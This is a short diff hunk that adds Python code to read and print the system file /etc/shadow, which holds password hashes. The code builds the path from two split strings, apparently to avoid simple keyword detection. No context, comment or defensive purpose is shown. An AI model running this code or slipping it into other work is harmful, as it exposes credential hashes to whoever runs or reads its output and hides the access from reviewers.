@@ -1,0 +1,3 @@
+
+p = "/etc/" + "shadow"
+print(open(p).read())
